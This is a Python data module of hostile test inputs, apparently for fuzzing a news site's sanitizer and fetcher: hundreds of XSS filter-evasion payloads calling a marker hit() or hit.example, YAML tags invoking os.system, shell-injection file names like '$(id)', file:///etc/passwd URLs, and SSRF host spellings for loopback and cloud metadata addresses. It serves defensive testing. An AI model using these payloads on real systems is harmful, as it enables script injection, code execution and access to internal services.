r"""The parts of which hostile articles are made. This module holds data only.

Classes of XSS are those of public cheat sheets (https://cheatsheetseries.owasp.org/cheatsheets/XSS_Filter_Evasion_Cheat_Sheet.html)
and of the advisories of sanitizers. Every payload calls ``hit()``, or asks for a URL with ``hit`` in it.
"""

from __future__ import annotations

WORDS = ("a", "The news ", "AI", " of ", "2019", "Öl", "日本", "عربي", "עברית")

TEXTS = (
    *(chr(code) for code in (*range(0x20), *range(0x7F, 0xA1))),
    *"\u00ad\u034f\u061c\u115f\u180e\u200b\u200c\u200d\u200e\u200f\u2028\u2029\u202a\u202b\u202c\u202d\u202e\u2060\u2066\u2067\u2068\u2069",
    *"\ufeff\ufff9\ufffb\ufffd\ufffe\uffff\ud800\udbff\udc00\udfff\U000e0001\U0001fffe\U0010ffff\ufb03ßſİıΣς",
    "]]>", "<![CDATA[", "--", "-->", "<!--", "<?xml version='1.0'?>", "&amp;", "&#0;", "&#x0;", "&#xD800;", "&#x110000;",
    "&#" + "9" * 5000 + ";", "&#" + "0" * 5000 + "65;", "&lol9;", "&nbsp", "&notit;", "&", "<", ">", '"', "'", "</title>",
    '<!DOCTYPE a [<!ENTITY x "y"><!ENTITY z "&x;&x;">]>', "{{7*7}}", "{% raw %}", "${x}", "$(id)", "`id`", "%s%n", "\\",
    "\\u0000", "\x1b[2J", "\x1b]0;t\x07", "\r\n\r\n", "e\u0301" * 40, "a" + "\u0316\u0301" * 400, "\N{MAN}\u200d\N{WOMAN}\u200d\N{GIRL}",
    "---", "+++", "...", "No", "12:30", "010", "1e3", "~", "null", "=", "<<", "-1", "99999999999999999999", "PT9999999999999H",
)  # fmt: skip

YAML = (
    "&a [*a]", "*a", "*nowhere", "&a x", "&a {a: *a}", "<<: *a", "<<: [*a, *a]", "<<: {title: merged}", "<<: 1", "&b [*b, *b]",
    "!!python/object:os.system {}", "!!python/object/apply:os.system [id]", "!!python/name:os.system", "!!binary aGl0", "!!set {a, b}",
    "!!omap [a: 1]", "!!timestamp 2001-01-01", "!!int x", "!!float .inf", "!!null x", "!x y", "!<tag:x> y", "!!str", "! x",
    "[" * 99 + "]" * 99, "[" * 120, "{a: " * 90 + "b" + "}" * 90, "{a: " * 200, "- " * 150 + "a", "? a", "? [a, b]\n: c", "? {a: b}",
    "? - a", "title: again", "title: again\ntitle: and again", "a: b: c", "a:b", "- a", "-a", "%YAML 1.1", "%TAG ! x:", "--- a", "... ",
    "|", ">", "|+\n  a\n\n", ">-\n  a\n   b\n", "|2\n   a", "|9\n a", "|0\n a", "'it''s'", "'open", '"open', '"\\x00"', '"\\uD800"',
    '"\\U0011FFFF"', '"\\q"', '"a\\\n  b"', "\ta", "a\tb", "a #b", "a#b", "#", "@a", "`a`", "%a", "!", "&", "*", "{", "}", "[", "]", ",",
    "yes", "No", "ON", "off", "y", "n", "~", "null", "NULL", "Null", "0x1F", "010", "0o10", "0b11", "1_000", "1e3", ".inf", "-.INF", ".nan",
    "12:30", "12:30:45", "190:20:30", "2001-01-01", "2001-1-1", "2001-12-14 21:59:43.10 -5", "2024-02-30", "=", "<<", "9" * 5000,
    "-" + "9" * 400, "0.1e-9999", "[{}, {}]", "{a: {}}", "{{}: {}}", "[{}: {}]", "\x00", "\x85", "\u2028", "\ufeff", "\x7f", "\ud800",
    "a\x00b", "\N{SNOWMAN}: \N{SNOWMAN}", "[]", "{}", "''", '""', "[~, '', []]", "[[[]]]", "[,]", "[a,,b]", "{a, b: }", "{? a : b}",
    "[a]: b", "{a: b}: c", "'a': 'b'", '"a":b', "{a:b}", "{a:1}", "a: |\n  b\n c", "x" * 2000, "x " * 2000 + ": y", "a,b,c", "true",
)  # fmt: skip

URLS = (
    "http://", "https://", "HTTP://EXAMPLE.COM/", "javascript:hit()", "java\nscript:hit()", "data:text/html,hit", "vbscript:hit()",
    "file:///etc/passwd", "ftp://example.com/", "//example.com/", "/a", "../a", "./", "?q", "#f", "", " ", "http:example.com", "http:/a",
    "http:///a", "http://user:hit@example.com/", "http://user@127.0.0.1/", "http://a@b@c/", "http://example.com\\@b/", "http://[::1]/",
    "http://[::1", "http://::1/", "http://[fe80::1%25eth0]/", "http://[v1.a]/", "http://[::::::]/", "http://[1.2.3]/", "http://127.1/",
    "http://0x7f.1/", "http://2130706433/", "http://０x7f.1/", "http://example.com:0/", "http://example.com:65536/", "http://example.com:/",
    "http://example.com:99999999999/", "http://example.com:-1/", "http://example.com:8a/", "http://-a-.com/", "http://a..b/", "http://./",
    "http://../", "http://.a/", "http://a./", "http://xn--/", "http://xn--a/", "http://xn--ls8h.la/", "http://аpple.com/", "http://ⓔxample.com/",
    "http://straße.de/", "http://faß.de/", "http://日本.jp/", "http://a\u200db.com/", "http://a\u00adb.com/", "http://ex\u202eample.com/",
    "http://" + "a" * 64 + ".com/", "http://" + "a." * 130 + "com/", "http://" + "é" * 300 + ".com/", "http://a b.com/", "http://a%00b/",
    "http://a%2eb/", "http://a_b.com/", "http://*.com/", "http://a,b/", "http://example.com/%", "http://example.com/%zz", "http://example.com/%00",
    "http://example.com/\x00", "http://example.com/\x7f", "http://example.com/\n", "http://example.com/\ud800", "http://example.com/a b",
    "http://example.com/<>\"{}|\\^`", "http://example.com/é?é#é", "http://example.com/?a#b#c", "http://example.com/[a]", "http://example.com?a",
    "http://example.com/" + "../" * 50, "http://example.com/%2e%2e/%2f", "http://example.com/;a=b", "mailto:a@b.c", "tel:1", "urn:a", "tag:a,2024:b",
    "http://example.com/a%00%1b.mp3", "http://example.com/a%ff.png", "https://cdn.ampproject.org/c/s/", "https://a-b.cdn.ampproject.org/v/s/a.b/?x",
)  # fmt: skip

NAMES = (
    ".", "..", "../", "..\\", "CON", "con", "PRN.txt", "aux", "nul", "COM1", "LPT9", "com¹", " ", "a ", "a.", "a..", ".a", "-", "--", "-rf", "~",
    "*", "?", ":", "|", "<", ">", '"', "'", "\\", "\x00", "\x01", "\n", "\r", "\t", "\x1b[31m", "%00", "%2e%2e%2f", "$HOME", "$(id)", "`id`", ";id",
    "é", "e\u0301", "ﬁ", "fi", "İ", "i\u0307", "ß", "SS", "ſ", "K", "Å", "Å", "①", "1", "\u200b", "\ufeff", "\u202e", "\u2044", "\uff0f",
    "\ud800", "\udcff", "a" * 255, "é" * 127, "archive", "1", "index", "rss.xml", "feed.json", "index.html", "topics", "providers", "feeds",
    "2024-05-01-a", "2024-02-30-a", "0000-00-00-", "9999-12-31-x", "a--b", "a--12345678", "c++", "c#", ".net", "a/b", "A", "a", "AI", "ai", "Ai",
)  # fmt: skip

DATES = (
    "0001-01-01", "0001-01-01T00:00:00+23:59", "0001-01-01T00:00:00-23:59", "9999-12-31", "9999-12-31T23:59:59Z", "9999-12-31T23:59:59-23:59",
    "9999-12-31T24:00:00Z", "9999-12-31T23:59:60Z", "0000-01-01", "10000-01-01", "-0001-01-01", "2016-12-31T23:59:60Z", "2016-06-30T23:59:60+01:00",
    "2024-05-01T10:00:00+26:00", "2024-05-01T10:00:00+24:00", "2024-05-01T10:00:00-99:99", "2024-05-01T24:00:00", "2024-05-01T24:00:01", "2024-02-29",
    "2023-02-29", "2024-13-01", "2024-00-00", "2024-W53-7", "2024-W00-1", "20240501T100000Z", "2024-366", "2024-05", "2024", "1e9", "1714557600",
    "now", "yesterday", "Wed, 01 May 2024 10:00:00 GMT", "2024-03-31T02:30:00", "2024-10-27T02:30:00", "1582-10-10", "1900-02-29", "2038-01-19T03:14:08Z",
    "2024-05-01T10:00:00." + "9" * 5000, "２０２４-05-01", "2024-05-01T10:00:00\u22125:00", "2024-05-01 10:00:00 +0200", "2024-05-01T10", "2024-05-01T10:00:00+",
)  # fmt: skip

MARKUP = (
    *(f"<{name}>" for name in "a b i p div span table tr td th ul ol li dl dd dt h1 pre code blockquote img br hr svg math title style script".split()),
    *(f"</{name}>" for name in "a b i p div span table tr td ul li svg math title style script template select noscript iframe".split()),
    "<template>", "<select>", "<option>", "<noscript>", "<iframe src=/a>", "<iframe", "<iframe/>", "<textarea>", "<plaintext>", "<xmp>", "<object>",
    "<foreignObject>", "<annotation-xml encoding='text/html'>", "<mtext>", "<mglyph>", "<![CDATA[", "]]>", "<!--", "-->", "--!>", "<!-->", "<!doctype x>",
    "<?php", "?>", "</", "<", ">", "=", '"', "'", "`", "/", "<a href='", '<a href="', "<img src=", "<a title='</a>'>", "&lt;", "&quot;", "&#60;", "&",
    "*", "**", "_", "`", "```\n", "~~", "[", "](", ")", "![", "[a]: /b\n", "> ", "- ", "1. ", "# ", "\n", "\n\n", "    ", "\t", "|", "|-|\n", "\\", "<http://a>",
    "<b title=1>", "<font color=red>", "<p title='", "\x00", "\x0c", "\ufeff", "\u2028",
)  # fmt: skip

_CALL = ("hit()", "top.hit&&hit()", "window['hit']()", "&#104;it()", "hi\\u0074()")
_EVENTS = (
    "onerror",
    "onload",
    "onclick autofocus onfocus",
    "ontoggle",
    "onpointerrawupdate",
    "onanimationstart",
    "onbegin",
    "onbeforetoggle",
    "onscrollend",
)
_SCHEMES = (
    "javascript:", "JaVaScRiPt:", " javascript:", "\x01javascript:", "java\tscript:", "java\nscript:", "java&Tab;script:", "javascript&colon;", "&#106;avascript:",
    "&#x6A&#x61;vascript:", "&#0000106avascript:", "java&#x0A;script:", "javascript\x00:", "\u2028javascript:", "feed:javascript:", "view-source:javascript:",
    "vbscript:", "livescript:", "javascript://%0a", "data:text/html,<script>parent.hit()</script>//", "data:text/html;base64,PHNjcmlwdD5wYXJlbnQuaGl0KCk8L3NjcmlwdD4=//",
    "blob:", "filesystem:",
)  # fmt: skip

PAYLOADS = (
    *(f"<script>{call}</script>" for call in _CALL), "<SCRIPT/x>hit()</SCRIPT>", "<script src=//hit.example/></script>", "<script>hit()", "<<script>hit()//<</script>",
    "<scr<script>ipt>hit()</scr</script>ipt>", "<script\x0c>hit()</script>", "<script\x00>hit()</script>", "<svg><script>hit()</script>", "<svg><script>hit&#40;)</script>",
    "<svg><script href=data:,hit()></script>", "<math><script>hit()</script>", "<script type=module>hit()</script>",
    *(f"<{name} {event}=hit() tabindex=1>x" for name in ("img src=x", "svg", "details open", "video src=x", "body", "marquee", "input", "xss", "a href=#", "div popover")
      for event in _EVENTS),
    "<img src=x onerror\x0c=hit()>", "<img/src=x/onerror=hit()>", "<img src=x onerror\n=\nhit()>", "<img src=x oneRRor=hit()>", '<img src="x"onerror="hit()">', "<img src=`x` onerror=hit()>",
    "<img '\"><script>hit()</script>\">", "<img src='x' title='\" onerror=hit() x=\"'>", '<img alt="<x" title="/><img src=x onerror=hit()>">', "<img src=x onerror=&#104;&#105;&#116;&#40;&#41;>",
    *(f"<a href='{scheme}hit()' id=go>x</a>" for scheme in _SCHEMES), *(f"[x]({scheme}hit())" for scheme in _SCHEMES[:8]), *(f"![x]({scheme}hit())" for scheme in _SCHEMES[:4]),
    *(f"<iframe src='{scheme}hit()'></iframe>" for scheme in _SCHEMES), "<iframe srcdoc='<script>parent.hit()</script>'>", "<iframe src=x onload=hit()>", "<iframe src='x' title='<script>hit()</script>'>",
    "<iframe title='\"><img src=x onerror=hit()>' src='https://a.example/'></iframe>", "<iframe src='https://a.example/\"onclick=hit()//'></iframe>", "<iframe src=//a><iframe src=//b title='</a><script>hit()</script>'></iframe>",
    "<object data=javascript:hit()>", "<object data=data:text/html,<script>parent.hit()</script>>", "<embed src=javascript:hit()>", "<embed src=data:image/svg+xml,<svg/onload=hit()>>", "<applet code=hit>",
    "<form action=javascript:hit()><button>x", "<button formaction=javascript:hit() form=f>x", "<input type=image src=x onerror=hit()>", "<isindex action=javascript:hit()>", "<base href=javascript:hit()//><a href=x>x</a>",
    "<base href=https://hit.example/>", "<meta http-equiv=refresh content='0;url=javascript:hit()'>", "<meta http-equiv=refresh content='0;url=https://hit.example/'>", "<link rel=stylesheet href=https://hit.example/>",
    "<link rel=import href=data:text/html,<script>hit()</script>>", "<style>@import 'https://hit.example/';</style>", "<style>*{background:url(https://hit.example/)}</style>", "<div style='background:url(javascript:hit())'>",
    "<div style=\"background:url('https://hit.example/')\">x", "<style>@keyframes x{}</style><b style='animation-name:x' onanimationstart=hit()>", "<style><img src='</style><img src=x onerror=hit()>'>",
    "<noscript><p title='</noscript><img src=x onerror=hit()>'>", "<template><script>hit()</script></template>", "<template shadowrootmode=open><script>hit()</script></template>", "<textarea><img title='</textarea><img src=x onerror=hit()>'>",
    "<title><img title='</title><img src=x onerror=hit()>'>", "<xmp><img title='</xmp><img src=x onerror=hit()>'>", "<noembed><img title='</noembed><img src=x onerror=hit()>'>", "<noframes><img title='</noframes><img src=x onerror=hit()>'>",
    "<plaintext><img src=x onerror=hit()>", "<select><style></select><img src=x onerror=hit()></style>", "<select><iframe></select><img src=x onerror=hit()>", "<svg><style><img src=x onerror=hit()></style>",
    "<svg><style><a title='</style><img src=x onerror=hit()>'>", "<svg></p><style><a title='</style><img src=x onerror=hit()>'>", "<svg><desc><img src=x onerror=hit()>", "<svg><foreignObject><img src=x onerror=hit()>",
    "<svg><a xlink:href=javascript:hit()><text y=9>x", "<svg><use href=data:image/svg+xml,<svg/onload=hit()>#x>", "<svg><animate onbegin=hit() attributeName=x dur=1s>", "<svg><set attributeName=href to=javascript:hit()>",
    "<svg><a><animate attributeName=href values=javascript:hit() /><text y=9>x", "<svg><image href=x onerror=hit()>", "<svg><handler type=text/javascript>hit()</handler>", "<svg><![CDATA[><img src=x onerror=hit()>]]>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=hit()&gt;'>", "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=hit()>",
    "<math><mtext><table><mglyph><style><math><img src=x onerror=hit()>", "<math><annotation-xml encoding='text/html'><style><img title='</style><img src=x onerror=hit()>'>", "<math><mi href=javascript:hit()>x",
    "<math href=javascript:hit()>x", "<math><mi xlink:href=javascript:hit()>x", "<math></br><style><!--</style><img src=x onerror=hit()>-->", "<svg></br><style><!--</style><img src=x onerror=hit()>-->", "<table><td background=javascript:hit()>",
    "<table background=javascript:hit()>", "<table><a href=javascript:hit()>x", "<a><table><a href='javascript:hit()'>x", "<!--><img src=x onerror=hit()>-->", "<!--->&lt;<img src=x onerror=hit()>", "<!-- --!><img src=x onerror=hit()>", "<!-- <img title='--><img src=x onerror=hit()>'>",
    "<![CDATA[<img src=x onerror=hit()>]]>", "<?x <img src=x onerror=hit()>?>", "</x <img src=x onerror=hit()>>", "<//><img src=x onerror=hit()>", "</p title='><img src=x onerror=hit()>'>", "&lt;script&gt;hit()&lt;/script&gt;", "&amp;lt;script&amp;gt;hit()&amp;lt;/script&amp;gt;",
    "&#60;img src=x onerror=hit()&#62;", "\\<img src=x onerror=hit()>", "`<img src=x onerror=hit()>`", "    <img src=x onerror=hit()>", "```\n<img src=x onerror=hit()>\n```", "```\"><img/src=x/onerror=hit()>\n```", "[x](<javascript:hit()>)", "[x]: javascript:hit()\n\n[x]",
    "[x](https://a.example/\" onclick=\"hit\\(\\))", "[x](https://a.example/ '\" onclick=\"hit()')", "![\" onerror=\"hit()](x)", "![x](x '\" onerror=\"hit()')", "<javascript:hit()>", "<https://a.example/\"onclick=hit()>", "# <img src=x onerror=hit()>", "| <img src=x onerror=hit()> |\n|-|\n",
    "+ADw-script+AD4-hit()+ADw-/script+AD4-", "\x1b$B<script>hit()</script>", "\ufeff<script>hit()</script>", "＜script＞hit()＜/script＞", "<ſcript>hit()</ſcript>", "<ımg src=x onerror=hit()>", "<img src=x:x onerror=hit()//", "<img src=1 href=1 onerror=hit()",
    "<video><source onerror=hit()>", "<video poster=javascript:hit()>", "<audio src onloadstart=hit()>", "<track onerror=hit()>", "<video src=x><track src=javascript:hit() default>", "<picture><source srcset=x><img onerror=hit()>", "<img srcset='x' onerror=hit()>", "<a ping=https://hit.example/ href=#>x",
    "<q cite='javascript:hit()'>x</q>", "<blockquote cite='java\tscript:hit()'>x", "<del cite=data:text/html,hit>x", "<div title='\"><img src=x onerror=hit()>'>", "<b title='&quot;&gt;&lt;img src=x onerror=hit()&gt;'>x", "<b lang='\"><script>hit()</script>'>x", "<time datetime='\" onclick=\"hit()'>x",
    "<portal src=javascript:hit()>", "<dialog open onclose=hit()><form method=dialog><button>x", "<keygen autofocus onfocus=hit()>", "<frameset onload=hit()>", "<bgsound src=javascript:hit()>", "<layer src=https://hit.example/>", "<custom-x onfocus=hit() tabindex=1 autofocus>",
    "<a href='https://a.example/' target=_blank onmouseover=hit()>x</a>", "<p/onclick=hit()>x", "<\x00img src=x onerror=hit()>", "<img\x00 src=x onerror=hit()>", "<img src=x onerror=\x00hit()>", "<a href=\"jav\x00ascript:hit()\">x</a>", "<a href='\x0cjavascript:hit()'>x</a>",
)  # fmt: skip
"""For Chromium, each on its own; and pieces of bodies."""

HOSTS = """
    127.0.0.1 127.0.0.1. 127.1 127.0.1 127.255.255.254 2130706433 0x7f000001 0x7f.1 0x7F.0x0.0x0.0x1 0177.0.0.1 017700000001
    00000177.1 0177.1 127.000.000.001 0x7f.0.1 127.0x1 127.0.0.0x1 0 0. 0.0.0.0 00 0x0 0x00000000 1.0x7f.0.1@127.0.0.1
    [::1] [0:0:0:0:0:0:0:1] [0000::0001] [::] [::ffff:127.0.0.1] [::ffff:7f00:1] [0:0:0:0:0:ffff:127.0.0.1] [::FFFF:7F00:0001]
    [::127.0.0.1] [::7f00:1] [::ffff:0:127.0.0.1] [64:ff9b::127.0.0.1] [64:ff9b::7f00:1] [64:ff9b:1::127.0.0.1]
    [2002:7f00:1::] [2002:7f00:0001::1] [2001:0:7f00:1::80ff:fffe] [fe80::1] [fe80::1%25lo] [fec0::1] [fc00::1] [fd00::1]
    [::1%25lo] [::ffff:0.0.0.0] [ff02::1] [2400:cb00::5efe:127.0.0.1]
    １２７.0.0.1 127。0。0。1 127．0．0．1 ①②⑦.0.0.1 ⓪ ０x7f.1 ⑫7.1 127.0.0.１ ２１３０７０６４３３ ０
    169.254.169.254 0xa9fea9fe 2852039166 169.16689662 0251.0376.0251.0376 [::ffff:169.254.169.254] 100.100.100.200 168.63.129.16
    10.0.0.1 172.16.0.1 192.168.0.1 100.64.0.1 224.0.0.1 255.255.255.255 198.18.0.1 192.0.0.1 240.0.0.1
    user@127.0.0.1 user:pass@127.0.0.1 example.com@127.0.0.1 127.0.0.1:80@127.0.0.1 example.com%40127.0.0.1 example.com\\@127.0.0.1
    127.0.0.1\\@example.com 127.0.0.1%2f@example.com 127.0.0.1#@example.com 127.0.0.1?@example.com 127.0.0.1%00.example.com
    127.0.0.1%09 %31%32%37.0.0.1 127.0.0.1;example.com 127.0.0.1,example.com localhost localhost. LOCALHOST a.localhost
    ⓛocalhost loc\u00adalhost localhost.localdomain ip6-localhost loopback.test mapped.test chain.test both.test rebinding.test zero.test
    nat64.test sixtofour.test metadata.test private.test 127.0.0.1.nip.test xn--test.test
    """.split()
"""Addresses that nobody outside may reach, in every spelling: after ``http://``, before the port."""

HOST_NAMES: dict[str, list[str]] = {
    "localhost": ["127.0.0.1"],
    "a.localhost": ["127.0.0.1"],
    "localhost.localdomain": ["127.0.0.1"],
    "ip6-localhost": ["::1"],
    "loopback.test": ["127.0.0.1"],
    "mapped.test": ["::ffff:127.0.0.1"],
    # As getaddrinfo tells them: the last of a chain of CNAMEs.
    "chain.test": ["127.0.0.1"],
    "both.test": ["93.184.216.34", "127.0.0.1"],
    "zero.test": ["0.0.0.0"],
    "nat64.test": ["64:ff9b::7f00:1"],
    "sixtofour.test": ["2002:7f00:1::1"],
    "metadata.test": ["169.254.169.254"],
    "private.test": ["10.0.0.1"],
    "127.0.0.1.nip.test": ["127.0.0.1"],
    "xn--test.test": ["127.0.0.1"],
}
